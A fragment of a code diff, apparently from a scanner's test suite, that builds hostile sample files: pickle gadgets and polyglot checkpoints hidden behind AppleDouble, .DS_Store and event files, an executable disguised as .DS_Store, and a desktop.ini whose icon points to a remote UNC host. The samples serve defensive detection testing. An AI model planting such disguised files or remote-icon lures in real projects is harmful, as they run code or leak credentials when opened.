@@ -79,9 +79,9 @@ def _renamed() -> Mapping[str, tuple[Make, str]]:
     made: dict[str, tuple[Make, str]] = {
         f"pickle-as-{name}": (voice(also={path: GADGET}), "pickle-import") for name, path in of_pickle.items()
     }
-    made["pickle-behind-attributes"] = (voice(also={"._model.pth": apple_double() + checkpoint()}), "polyglot")
-    made["archive-behind-store"] = (voice(also={".DS_Store": ds_store() + checkpoint()}), "polyglot")
-    made["pickle-behind-events"] = (voice(also={EVENTS: events() + checkpoint()}), "polyglot")
+    made["pickle-behind-attributes"] = (voice(also={"._model.pth": lambda: apple_double() + checkpoint()}), "polyglot")
+    made["archive-behind-store"] = (voice(also={".DS_Store": lambda: ds_store() + checkpoint()}), "polyglot")
+    made["pickle-behind-events"] = (voice(also={EVENTS: lambda: events() + checkpoint()}), "polyglot")
     made["program-as-store"] = (voice(also={".DS_Store": ELF}), "directory-executable")
     elsewhere = "[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\a\\b.ico\r\n"
     made["view-of-another-machine"] = (voice(also={"desktop.ini": elsewhere}), "directory-code")
